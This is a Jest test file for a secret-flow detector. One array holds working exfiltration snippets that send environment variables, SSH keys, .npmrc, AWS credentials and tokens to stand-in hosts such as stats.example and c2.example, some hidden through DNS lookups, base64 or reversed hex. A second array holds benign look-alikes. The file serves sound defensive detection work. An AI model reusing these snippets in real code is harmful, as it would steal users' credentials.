import { describe, expect, it } from '@jest/globals'
import { flowsOf } from './flows-of.js'

/** What the files of incidents and articles did, inert, and told by what reaches what. */
const sends: readonly (readonly [name: string, code: string, flows: readonly string[]])[] = [
  [
    'the environment as a name that is looked up',
    `const dns = require('dns')
const data = Buffer.from(JSON.stringify(process.env)).toString('hex')
for (const part of data.match(/.{1,60}/g)) dns.lookup(\`\${part}.collector.example\`, () => {})`,
    ['environment process.env by JSON.stringify 2 → dns dns.lookup 3 collector.example'],
  ],
  [
    'variables that are named as tokens, every minute',
    `const https = require('https')
setInterval(() => {
  const found = Object.keys(process.env).filter((k) => /token/i.test(k)).map((k) => k + '=' + process.env[k])
  const req = https.request({ hostname: 'stats.example', path: '/v1', method: 'POST' })
  req.write(JSON.stringify(found))
  req.end()
}, 60000)`,
    ['environment process.env by Object.keys, filtered by names of secrets 3 → network https.request 5 stats.example'],
  ],
  [
    'the environment beside others in a body',
    `import os from 'node:os'
const body = { host: os.hostname(), env: { ...process.env } }
await fetch('https://stats.example/in', { method: 'POST', body: JSON.stringify(body) })`,
    ['environment process.env copied by spread, for a child process 2 → network fetch 3 stats.example'],
  ],
  [
    'what a loop collects',
    `const all = {}
for (const name in process.env) { if (/KEY|SECRET/.test(name)) all[name] = process.env[name] }
require('axios').post('https://stats.example/in', all)`,
    ['environment process.env by for-in, filtered by names of secrets 2 → network axios.post 3 stats.example'],
  ],
  [
    'credential files from a list',
    `const fs = require('fs'), os = require('os'), path = require('path'), https = require('https')
const out = {}
for (const name of ['.npmrc', '.ssh/id_rsa']) {
  try { out[name] = fs.readFileSync(path.join(os.homedir(), name), 'utf8') } catch {}
}
const req = https.request('https://stats.example/', { method: 'POST' }, () => {})
req.end(JSON.stringify(out))`,
    [
      'credential-file .npmrc 3 → network https.request 7 stats.example',
      'credential-file .ssh/id_rsa 3 → network https.request 7 stats.example',
    ],
  ],
  [
    'a token that another program prints, through helpers',
    `const { execSync } = require('child_process'), https = require('https')
const result = { env: process.env, ghToken: null }
function send(data) {
  return new Promise((resolve, reject) => {
    const req = https.request({ hostname: 'api.git.example', path: '/user/repos', method: 'POST' }, resolve)
    req.on('error', reject)
    req.write(data)
    req.end()
  })
}
async function main() {
  try { result.ghToken = execSync('gh auth token', { stdio: 'pipe' }).toString().trim() } catch {}
  const packed = Buffer.from(Buffer.from(JSON.stringify(result)).toString('base64')).toString('base64')
  await send(JSON.stringify({ content: packed }))
}
main()`,
    [
      'credential-file gh auth token 12 → network https.request 7 api.git.example',
      'environment process.env 2 → network https.request 7 api.git.example',
    ],
  ],
  [
    'a file that is read with a callback, put on a command line',
    `const fs = require('fs'), cp = require('child_process')
fs.readFile(process.env.HOME + '/.aws/credentials', 'utf8', (error, text) => {
  cp.exec('curl -d "' + encodeURIComponent(text) + '" https://stats.example')
})`,
    ['credential-file ~/.aws/credentials 2 → shell child_process.exec 3'],
  ],
  [
    'a signing key in a header',
    `export class Keypair {
  static fromSecretKey(secretKey) {
    addToQueue(secretKey)
    return new Keypair(secretKey)
  }
}
async function addToQueue(value) {
  const text = Buffer.from(value).toString('hex')
  await fetch('https://rpc-node.example/api', { method: 'POST', headers: { 'x-session-id': text.split('').reverse().join('') } })
}`,
    ['key-material secretKey 2 → network fetch 9 rpc-node.example'],
  ],
  [
    'a socket and a promise chain',
    `import net from 'net'
import { readFile } from 'node:fs/promises'
const s = net.connect(443, 'a.example')
readFile('/home/x/.ssh/id_ed25519').then((b) => s.write(b))`,
    ['credential-file /home/x/.ssh/id_ed25519 4 → network net.connect 4 a.example'],
  ],
  [
    'what a class keeps and another of its methods sends',
    `const WebSocket = require('ws')
class Agent {
  constructor() { this.store = Object.entries(process.env) }
  flush() { const ws = new WebSocket('wss://c2.example'); ws.on('open', () => ws.send(JSON.stringify(this.store))) }
}`,
    ['environment process.env by Object.entries 3 → network ws 4 c2.example'],
  ],
  [
    'files that are put into a list within an object',
    `const fs = require('fs'), os = require('os')
const found = { files: [], env: {} }
for (const name of ['.npmrc']) found.files.push(fs.readFileSync(os.homedir() + '/' + name, 'utf8'))
fetch('https://a.example', { method: 'POST', body: JSON.stringify(found) })`,
    ['credential-file .npmrc 3 → network fetch 4 a.example'],
  ],
  [
    'modules of one bundle',
    `(() => { var r = {
12: (e, t, n) => { e.exports = function () { return JSON.stringify(process.env) } },
31: (e, t, n) => { const send = (all) => fetch('https://a.example', { method: 'POST', body: all }); e.exports = { send } },
88: (e, t, n) => { const found = n(12)(); n(31).send(found); const { send } = n(31); send('x') }
}, o = {}; function t(i) { var m = o[i] = { exports: {} }; return r[i](m, m.exports, t), m.exports } t(88) })()`,
    ['environment process.env by JSON.stringify 2 → network fetch 3 a.example'],
  ],
]

/** What packages of good repute do with the same things. */
const keeps: readonly (readonly [name: string, code: string])[] = [
  [
    'dotenv: a file of settings into the environment',
    `const fs = require('fs')
function config() {
  const parsed = parse(fs.readFileSync('.env', 'utf8'))
  for (const key of Object.keys(parsed)) if (!(key in process.env)) process.env[key] = parsed[key]
  return { parsed }
}
function parse(src) { const out = {}; for (const line of src.split('\\n')) out[line.split('=')[0]] = line.split('=')[1]; return out }
module.exports = { config }`,
  ],
  [
    'cross-env: a command with a changed environment',
    `const { spawn } = require('cross-spawn')
function run(args, setters) {
  const env = Object.assign({}, process.env)
  for (const name of Object.keys(setters)) env[name] = setters[name]
  return spawn(args[0], args.slice(1), { stdio: 'inherit', env })
}
module.exports = run`,
  ],
  [
    'execa: the environment of a child',
    `import { execa } from 'execa'
export const build = (dir) => execa('node', ['build.js', dir], { env: { ...process.env, FORCE_COLOR: '1' } })`,
  ],
  [
    'debug: settings by the prefix of their names',
    `exports.inspectOpts = Object.keys(process.env).filter((key) => /^debug_/i.test(key)).reduce((obj, key) => {
  obj[key.slice(6)] = process.env[key]
  return obj
}, {})
process.stderr.write(require('util').format('%o', exports.inspectOpts))`,
  ],
  [
    'a configuration of its own names that says where to ask',
    `const settings = {}
for (const [name, value] of Object.entries(process.env)) { if (name.startsWith('npm_config_')) settings[name.slice(11)] = value }
fetch(settings.registry + '/left-pad')`,
  ],
  [
    'telemetry with named variables',
    `const ci = process.env.CI || process.env.GITHUB_ACTIONS
fetch('https://telemetry.example/v1', { method: 'POST', body: JSON.stringify({ ci: Boolean(ci), node: process.version }) })`,
  ],
  [
    'supports-color: whether names are there',
    `const { env } = process
if ('CI' in env && ['TRAVIS', 'GITLAB_CI'].some((sign) => sign in env)) fetch('https://a.example/?ci=1')`,
  ],
  [
    'a signature made with a key',
    `const crypto = require('crypto'), https = require('https')
exports.call = (secretKey, body) => {
  const mac = crypto.createHmac('sha256', secretKey).update(body).digest('hex')
  https.request({ hostname: 'api.example', headers: { 'x-signature': mac } }).end(body)
}`,
  ],
  [
    'credentials for their own service, whose host is configured',
    `const fs = require('fs'), os = require('os'), path = require('path')
exports.provider = (profile) => {
  const text = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8')
  return text.includes(profile)
}
exports.ask = (endpoint) => fetch(endpoint)`,
  ],
  [
    'an error that is logged and a request beside it',
    `console.log(JSON.stringify(process.env))
fetch('https://a.example/ping')`,
  ],
  [
    'a timeout and an agent from the environment in options',
    `const options = { env: process.env, timeout: 5 }
require('https').request('https://a.example', options)`,
  ],
  [
    'the search path of programs, whatever its case',
    `const { spawn } = require('child_process')
const isPath = /^path$/i
function pathOf(env) { for (const name in env) { if (isPath.test(name)) return env[name] } }
function keyOf(env) { return Object.keys(env).reverse().find((key) => key.toUpperCase() === 'PATH') || 'Path' }
exports.run = (command, options) => {
  const env = { ...process.env, ...options.env }
  return spawn(pathOf(env) + '/' + command, [env[keyOf(env)]], { env })
}`,
  ],
  [
    'names of files that are not to be served',
    `const fs = require('fs')
const defaults = { deny: ['.npmrc', '.ssh/id_rsa'], open: '/index.html' }
exports.serve = (raw) => { const config = merge({ ...defaults }, raw); fetch(fs.readFileSync(String(config), 'utf8')) }
function merge(a, b) { return Object.assign(a, b) }`,
  ],
  [
    'a secret of a keychain that goes to the clipboard',
    `const { execFileSync } = require('child_process')
const found = execFileSync('security', ['find-generic-password', '-s', 'pad', '-w']).toString()
execFileSync('/usr/bin/pbcopy', { input: found })
execFileSync('/usr/bin/security', ['add-generic-password', '-w', found])`,
  ],
  [
    'a public key of a secret one',
    `exports.register = (secretKey) => fetch('https://a.example/' + toPublicKey(secretKey))
exports.named = ({ privateKey }) => fetch('https://a.example/' + privateKey.address)`,
  ],
]

describe('flows of secrets', () => {
  it.each(sends)('sees %s', (_, code, flows) => {
    expect([...flowsOf(code)].sort()).toEqual([...flows].sort())
  })

  it.each(keeps)('is silent about %s', (_, code) => {
    expect(flowsOf(code)).toEqual([])
  })
})
